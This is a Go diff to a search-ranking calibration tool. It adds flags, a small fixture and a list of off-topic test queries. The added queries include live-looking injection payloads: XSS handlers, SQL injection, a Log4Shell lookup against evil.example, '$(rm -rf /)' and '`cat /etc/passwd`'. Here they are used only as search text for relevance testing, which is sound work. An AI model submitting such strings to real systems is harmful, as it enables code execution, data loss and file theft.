@@ -25,6 +25,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 
 	"github.com/cairnmemory/cairn"
@@ -43,6 +44,7 @@ func main() {
 	list := flag.String("list", "", "with -dump: ask only the queries of this file (one a line, # comments) of every conversation and the fixture")
 	test := flag.String("test", "", "with -fit: a -list dump of engine/testdata/offtopic.txt to check the models on")
 	only := flag.String("modes", "lexical,vector,hybrid", "with -dump: the modes to ask in")
+	parts := flag.String("parts", "", "with -dump: what to ask (locomo: the development conversations; fixture: the ranking fixture; small: indexes of 3 and 5 of its notes; default all three, with -list the first two)")
 	fit := flag.String("fit", "", "fit the models to this JSON file (from -dump)")
 	why := flag.Int("why", 0, "with -fit: print this many relevant hits cut and off-topic searches answered")
 	featureSpec := flag.String("features", "", `with -fit: the features of some modes' models ("hybrid=match,cos;lexical=match"), default search.Models'`)
@@ -52,15 +54,22 @@ func main() {
 	posShare := flag.Float64("pos", 0.5, "share of the weight given to the answers (the prior of the fit)")
 	crossShare := flag.Float64("cross", 0.1, "share of the negatives' weight given to questions asked of another conversation")
 	fixed := flag.Float64("fixture", 0, "share of the answers' weight given to the ranking fixture's (0: by count)")
+	othersShare := flag.Float64("others", 0, "share of the negatives' weight given to the notes a fixture question does not expect (0: those hits are left out)")
 	flag.Parse()
 	modes = strings.Split(*only, ",")
 	var err error
 	switch {
 	case *dump != "":
-		err = runDump(*shared, *dump, *list)
+		p := *parts
+		if p == "" && *list == "" {
+			p = "locomo,fixture,small"
+		} else if p == "" {
+			p = "locomo,fixture"
+		}
+		err = runDump(*shared, *dump, *list, strings.Split(p, ","))
 	case *fit != "":
 		err = runFit(*fit, *test, fitOptions{features: *featureSpec, why: *why, l2: *l2, minScore: *minScore,
-			crossShare: *crossShare, posShare: *posShare, fixed: *fixed})
+			crossShare: *crossShare, posShare: *posShare, fixed: *fixed, others: *othersShare})
 	case *evalRuns:
 		err = runEval(*shared)
 	default:
@@ -114,16 +123,16 @@ func runEval(shared string) error {
 // Dump is the file -dump writes: searches per mode.
 type Dump map[string][]eval.CalibrationQuery
 
-func runDump(shared, out, list string) error {
+func runDump(shared, out, list string, parts []string) error {
 	ctx := context.Background()
 	d := Dump{}
-	others, offTopic, fixtureQuestions := 2, trainOffTopic, true
+	others, offTopic, askQuestions := 2, trainOffTopic, true
 	if list != "" {
 		data, err := os.ReadFile(list)
 		if err != nil {
 			return err
 		}
-		others, offTopic, fixtureQuestions = -1, nil, false
+		others, offTopic, askQuestions = -1, nil, false
 		for _, line := range strings.Split(string(data), "\n") {
 			if line = strings.TrimSpace(line); line != "" && !strings.HasPrefix(line, "#") {
 				offTopic = append(offTopic, line)
@@ -131,19 +140,31 @@ func runDump(shared, out, list string) error {
 		}
 	}
 	for _, mode := range modes {
-		o, err := locomoOptions(shared, mode)
-		if err != nil {
-			return err
+		var qs []eval.CalibrationQuery
+		if slices.Contains(parts, "locomo") {
+			o, err := locomoOptions(shared, mode)
+			if err != nil {
+				return err
+			}
+			if qs, err = eval.LocomoCalibration(ctx, o, others, offTopic); err != nil {
+				return err
+			}
 		}
-		qs, err := eval.LocomoCalibration(ctx, o, others, offTopic)
-		if err != nil {
-			return err
+		if slices.Contains(parts, "fixture") {
+			fx, err := fixture(ctx, shared, mode, offTopic, askQuestions)
+			if err != nil {
+				return err
+			}
+			qs = append(qs, fx...)
 		}
-		fx, err := fixture(ctx, shared, mode, offTopic, fixtureQuestions)
-		if err != nil {
-			return err
+		if slices.Contains(parts, "small") {
+			sm, err := smallFixture(ctx, shared, mode, offTopic)
+			if err != nil {
+				return err
+			}
+			qs = append(qs, sm...)
 		}
-		d[mode] = append(qs, fx...)
+		d[mode] = qs
 		fmt.Fprintf(os.Stderr, "%s: %d searches\n", mode, len(d[mode]))
 	}
 	data, err := json.Marshal(d)
@@ -185,6 +206,14 @@ var trainOffTopic = []string{
 	"integral of a polynomial", "how do satellites stay in orbit", "the magna carta", "iron smelting in a furnace",
 	"grelbish vantorq", "zumfrick plexador", "quorvath nimblesk", "snargle pufftwit",
 	"frunkel dibbet", "oompaloo skree", "yarvish blenth", "kwijibo fnord",
+	// Added for the fourth fit: markup, template and injection strings, the
+	// first things a new user types to test a search box. A sentence
+	// encoder puts them near notes with code in them (cosine 0.7 in a
+	// five-note index): the query's share of markup characters (symbols)
+	// is what tells them from a question.
+	`<div class="header"></div>`, "<img src=x onerror=prompt(7)>", "DROP TABLE accounts; --", "${jndi:ldap://evil.example/a}",
+	"{{7*7}}", "$(rm -rf /)", "SELECT * FROM users WHERE id = 5 OR 2 = 2", "<?php echo $x; ?>",
+	"<svg onload=confirm(2)>", "`cat /etc/passwd`", "<b>bold</b> <i>italic</i>", "[url=http://x.example]click[/url]",
 }
 
 // fixture asks the ranking fixture's questions (the expected note is the
@@ -215,30 +244,50 @@ func fixture(ctx context.Context, shared, mode string, offTopic []string, questi
 	if _, err := eng.Sync(ctx, nil); err != nil {
 		return nil, err
 	}
+	var qs []fixtureQuestion
+	if questions {
+		if qs, err = fixtureQuestions(); err != nil {
+			return nil, err
+		}
+	}
+	for _, t := range offTopic {
+		qs = append(qs, fixtureQuestion{t, ""})
+	}
+	return askFixture(ctx, eng, mode, "fixture", "fixture", qs)
+}
+
+// fixtureQuestion is a query of the ranking fixture and the path of its
+// expected note ("": an off-topic query).
+type fixtureQuestion struct{ text, want string }
+
+// fixtureQuestions reads engine/testdata/rank/queries.tsv.
+func fixtureQuestions() ([]fixtureQuestion, error) {
 	f, err := os.Open("engine/testdata/rank/queries.tsv")
 	if err != nil {
 		return nil, err
 	}
 	defer f.Close()
-	type q struct{ text, want string }
-	var qs []q
+	var qs []fixtureQuestion
 	sc := bufio.NewScanner(f)
 	for sc.Scan() {
-		if line := sc.Text(); questions && line != "" && !strings.HasPrefix(line, "#") {
+		if line := sc.Text(); line != "" && !strings.HasPrefix(line, "#") {
 			text, want, _ := strings.Cut(line, "\t")
-			qs = append(qs, q{text, "cairn://rank/" + want})
+			qs = append(qs, fixtureQuestion{text, "cairn://rank/" + want})
 		}
 	}
-	for _, t := range offTopic {
-		qs = append(qs, q{t, ""})
-	}
+	return qs, sc.Err()
+}
+
+// askFixture asks qs of eng in mode, labelling each hit by whether it is
+// the question's expected note.
+func askFixture(ctx context.Context, eng *engine.Engine, mode, conv, target string, qs []fixtureQuestion) ([]eval.CalibrationQuery, error) {
 	var out []eval.CalibrationQuery
 	for _, x := range qs {
 		hits, err := eng.Search(ctx, x.text, &cairn.SearchOptions{Limit: 10, Mode: mode})
-		if err != nil && !strings.Contains(err.Error(), "only common words") {
+		if err != nil && !strings.Contains(err.Error(), "only common words") && !strings.Contains(err.Error(), "no words") {
 			return nil, fmt.Errorf("search %q: %w", x.text, err)
 		}
-		cq := eval.CalibrationQuery{Conv: "fixture", Target: "fixture", Question: x.text, OnTopic: x.want != ""}
+		cq := eval.CalibrationQuery{Conv: conv, Target: target, Question: x.text, OnTopic: x.want != ""}
 		if cq.OnTopic {
 			cq.Evidence = []string{x.want}
 		}
